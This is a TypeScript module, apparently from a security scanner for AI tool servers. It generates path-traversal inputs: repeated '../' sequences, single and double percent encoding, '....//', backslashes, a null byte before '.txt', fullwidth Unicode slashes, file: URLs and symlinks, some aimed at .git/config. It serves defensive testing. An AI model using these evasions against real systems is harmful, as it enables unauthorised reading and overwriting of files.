// Paths that lead out of a tool's working directory, in spellings that checks often miss.

import { posix } from 'node:path';
import type { Proof } from '#model/injection.ts';
import { FILE_KINDS } from '#observe/world/file-kinds.ts';
import { nameWords } from '../hint/name-words.ts';
import { type InjectionGroup, type InjectionKind, type InjectionTarget, isNamed, says, single, vocabularyWords } from './injection-kind.ts';

const PATHS = vocabularyWords(
	'path paths file files filepath filename dir directory folder destination source src dest root attachment document image',
);
/** Arguments that may name a directory … */
const DIRECTORIES = vocabularyWords(
	'path paths dir directory directories folder folders root source src location cwd workspace repo repository project',
);
/** … and arguments that rarely name anything else. */
const ONLY_DIRECTORIES = vocabularyWords('dir directory directories folder folders root cwd workspace repo repository project');
/** Arguments that a server often turns into a file name: `name`, `noteId`, `slugs[0]`. */
const NAMES = withPlurals(
	'name note page template topic slug key id title theme locale lang language report log skin view doc article entry chapter recipe draft snippet memory prompt skill script config profile project collection dataset record session item',
);
const STORED = withPlurals(
	'file folder directory disk stored saved template read load open note page log document doc article markdown vault draft snippet memory memories report journal wiki recipe entry storage',
);
/** The outside file exists with each of these extensions. */
const ENDINGS = ['.md', '.txt', '.json'];
/** Extensions that a server adds to a file that it creates. */
const MADE_ENDINGS = [...ENDINGS, '.yaml', '.yml', '.html', '.log', '.csv'];
/** More levels than any root has. */
const UP = 12;

export const path: InjectionKind = {
	class: 'path',
	groups(target) {
		if (target.kind !== 'text') return [];
		if (isNamed(target, PATHS) || isNamed(target, ONLY_DIRECTORIES))
			return [...directories(target), ...plain(target, 90), ...encoded(target, 79)];
		if (!isNamed(target, NAMES)) return [];
		// The text does not mention files, so only the two simplest variants are tried.
		if (!says(target, STORED)) return inBothForms(target, 67, 'dots', (path) => climb('../', path));
		return [...plain(target, 73), ...encoded(target, 60)];
	},
};

function plain(target: InjectionTarget, weight: number): readonly InjectionGroup[] {
	const { link, siblings } = target.places;
	return [
		...inBothForms(target, weight, 'dots', (path) => climb('../', path)),
		...inBothForms(target, weight - 1, 'an absolute path', (path) => path),
		...(link === undefined || target.isChanging
			? []
			: [
					single(weight - 5, () => ({
						variant: 'a symbolic link inside the directory',
						value: posix.join(link, posix.basename(target.places.outside)),
						proofs: [touched(target.places.outside)],
					})),
				]),
		...(target.places.spare === undefined || !target.isChanging ? [] : toSpare(target, target.places.spare, weight - 2)),
		...siblings.map((sibling, index) =>
			single(weight - 6 - index, () => ({
				variant: 'a directory whose name begins like the allowed one',
				value: sibling,
				proofs: [touched(sibling)],
			})),
		),
		...inBothForms(target, weight - 9, 'dots after an ordinary name', (path) => `notes/${climb('../', path)}`),
	];
}

/** A tool that stages, sends, moves or changes a file needs an existing one. */
function toSpare({ ordinary }: InjectionTarget, spare: string, weight: number): readonly InjectionGroup[] {
	const isAbsolute = typeof ordinary === 'string' && ordinary.startsWith('/');
	const one = (less: number, variant: string, value: string) =>
		single(weight - less, () => ({ variant: `${variant} to a file that is there`, value, proofs: [touched(spare)] }));
	return [one(isAbsolute ? 1 : 0, 'dots', climb('../', spare)), one(isAbsolute ? 0 : 1, 'an absolute path', spare)];
}

function encoded(target: InjectionTarget, weight: number): readonly InjectionGroup[] {
	return [
		...inBothForms(target, weight, 'percent-encoded dots', (path) => encodeURIComponent(climb('../', path)).replaceAll('.', '%2e')),
		...inBothForms(target, weight - 1, 'dots that a single replacement puts together', (path) => climb('....//', path)),
		to(target, weight - 8, 'twice percent-encoded dots', (path) =>
			encodeURIComponent(encodeURIComponent(climb('../', path)).replaceAll('.', '%2e')),
		),
		to(target, weight - 9, 'backslashes', (path) => climb('../', path).replaceAll('/', '\\')),
		to(target, weight - 10, 'a null byte before an innocent ending', (path) => `${climb('../', path)}\0.txt`),
		to(target, weight - 11, 'wide Unicode dots and slashes', (path) => climb('../', path).replaceAll('.', '．').replaceAll('/', '／')),
		to(target, weight - 20, 'a file: URL', (path) => `file://${path}`),
	];
}

/** A tool that lists or searches opens no file, so access to the directory is the proof. A tool that changes things is directed only to the repository. */
function directories(target: InjectionTarget): readonly InjectionGroup[] {
	const { repository } = target.places;
	const isSure = isNamed(target, ONLY_DIRECTORIES);
	if (repository === undefined || !isNamed(target, DIRECTORIES) || (target.isChanging && !isSure)) return [];
	const reached = ['', '.git', '.git/HEAD', '.git/config', 'README.md'].map((name) => touched(posix.join(repository, name)));
	const weight = isSure ? 92 : 77;
	return [
		single(weight, () => ({ variant: 'a directory, by an absolute path', value: repository, proofs: reached })),
		single(weight - 1, () => ({ variant: 'a directory, by dots', value: climb('../', repository), proofs: reached })),
	];
}

/** `whole`: with the file's extension. `bare`: without it, for a server that adds one. */
type Form = 'whole' | 'bare';

/**
 * Some servers use the name unchanged, others add an extension or require one, so neither form covers all of them. The likelier form has the
 * full weight. If the other one is unlikely, it comes after all plain variants.
 */
function inBothForms(target: InjectionTarget, weight: number, variant: string, spell: (path: string) => string): readonly InjectionGroup[] {
	const second = target.addsEnding === true || isNamed(target, PATHS) ? weight - 16 : weight - 0.5;
	return likelierForm(target) === 'whole'
		? [to(target, weight, variant, spell, 'whole'), to(target, second, `${variant}, without the ending`, spell, 'bare')]
		: [to(target, weight, variant, spell, 'bare'), to(target, second, `${variant}, with the ending`, spell, 'whole')];
}

/** A path rarely gets an extension, while a name often does. What the server did with an ordinary value decides. */
function likelierForm(target: InjectionTarget): Form {
	return target.addsEnding !== true && isNamed(target, PATHS) ? 'whole' : 'bare';
}

/** Directs a reading tool to an existing file, and a changing tool to a new one. */
function to(
	target: InjectionTarget,
	weight: number,
	variant: string,
	spell: (path: string) => string,
	form: Form = likelierForm(target),
): InjectionGroup {
	return single(weight, (mark) => {
		const { dir, name, ext: usual } = posix.parse(target.places.outside);
		const ext = kindOf(target) ?? usual;
		const bare = posix.join(dir, target.isChanging ? mark.word : name);
		const path = form === 'whole' ? `${bare}${ext}` : bare;
		// A server that creates the file may add an extension to the given one: x.md.yaml
		const reached = target.isChanging ? [bare, path].flatMap((base) => named(base, MADE_ENDINGS)) : named(bare, [...ENDINGS, ext]);
		return { variant, value: spell(path), proofs: [...new Set(reached)].map(touched) };
	});
}

/** A tool that expects a workbook opens nothing else, so it is directed to a workbook outside. */
function kindOf({ ordinary, tool, words, places: { kinds = [] } }: InjectionTarget): string | undefined {
	const names = new Set([...nameWords(tool), ...words]);
	const asked = FILE_KINDS.find(({ isText, words: telling }) => !isText && telling.some((word) => names.has(word)));
	const endings = [...(typeof ordinary === 'string' ? [posix.extname(ordinary).toLowerCase()] : []), `.${asked?.endings[0]}`];
	return endings.find((ending) => kinds.includes(ending));
}

function named(base: string, endings: readonly string[]): readonly string[] {
	return [base, ...endings.map((ending) => `${base}${ending}`)];
}

function touched(path: string): Proof {
	return { kind: 'touched', path };
}

function climb(step: string, path: string): string {
	return step.repeat(UP) + path.slice(1);
}

function withPlurals(singular: string): ReadonlySet<string> {
	const words = vocabularyWords(singular);
	return new Set([...words, ...[...words].map((word) => `${word}s`)]);
}
